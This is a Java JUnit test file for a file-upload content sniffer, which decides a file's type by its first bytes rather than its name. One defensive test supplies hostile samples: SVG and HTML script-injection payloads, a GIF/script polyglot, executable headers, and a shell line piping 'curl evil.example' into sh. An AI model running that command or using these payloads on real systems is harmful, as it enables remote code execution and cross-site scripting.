package org.porth.attachments.internal;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.porth.attachments.TestFiles;
import org.porth.catalogue.UploadLimits.FileType;

/** A file is what its first bytes say, whatever it is called. Fixtures are real files in test resources. */
class ContentSnifferTest {

    @ParameterizedTest
    @CsvSource({"photo.jpg,JPEG", "photo.png,PNG", "letter.pdf,PDF", "iphone-photo.heic,HEIC",
            // a PDF renamed .jpg is a PDF
            "letter-named.jpg,PDF"})
    void recognisesFilesByTheirContent(String fixture, FileType type) {
        assertThat(ContentSniffer.sniff(head(fixture))).contains(type);
    }

    @ParameterizedTest
    @ValueSource(strings = {"heic", "heix", "mif1", "msf1"})
    void everyHeicBrandIsHeic(String brand) {
        assertThat(ContentSniffer.sniff(ftyp(brand))).contains(FileType.HEIC);
    }

    @ParameterizedTest
    @ValueSource(strings = {"isom", "mp42", "qt  ", "avif", "M4A "})
    void otherFilesOfTheSameFamilyAreNot(String brand) {
        // MP4 video, QuickTime, AVIF and audio share the ftyp box with HEIC
        assertThat(ContentSniffer.sniff(ftyp(brand))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"notes.png"})
    void aTextFileRenamedAsAnImageIsNothing(String fixture) {
        assertThat(ContentSniffer.sniff(head(fixture))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "\u00ff\u00d8", "%PDF", "\u0089PNG\r\n\u001a", "GIF89a......", "<html><script>", "PK\u0003\u0004 zip.."})
    void aShortOrUnknownStartIsNothing(String start) {
        assertThat(ContentSniffer.sniff(start.getBytes(StandardCharsets.ISO_8859_1))).isEmpty();
    }

    /** What an attacker names photo.jpg or letter.pdf: their start is all that counts, and it is none of ours. */
    @ParameterizedTest
    @ValueSource(strings = {
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
            "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
            "\u00ef\u00bb\u00bf<!DOCTYPE html><script>alert(1)</script>",
            "  \n<html><body onload=alert(1)>",
            "MZ\u0090\u0000\u0003\u0000\u0000\u0000\u0004\u0000\u0000\u0000\u00ff\u00ff",
            "\u007fELF\u0002\u0001\u0001\u0000\u0000\u0000\u0000\u0000",
            "#!/bin/sh\ncurl evil.example | sh",
            "\u00ca\u00fe\u00ba\u00be\u0000\u0000\u0000\u0041 class",
            "GIF89a/*\u0000\u0000*/=alert(1);<svg onload=alert(1)>",
            " %PDF-1.7 a PDF behind a space"})
    void hostileFilesAreNothingWhateverTheyAreCalled(String start) {
        byte[] bytes = start.getBytes(StandardCharsets.ISO_8859_1);

        assertThat(ContentSniffer.sniff(Arrays.copyOf(bytes, Math.min(bytes.length, ContentSniffer.HEAD_LENGTH)))).isEmpty();
    }

    private static byte[] head(String fixture) {
        byte[] bytes = TestFiles.bytes(fixture);
        return Arrays.copyOf(bytes, Math.min(bytes.length, ContentSniffer.HEAD_LENGTH));
    }

    private static byte[] ftyp(String brand) {
        return ("\u0000\u0000\u0000\u0018ftyp" + brand).getBytes(StandardCharsets.ISO_8859_1);
    }
}
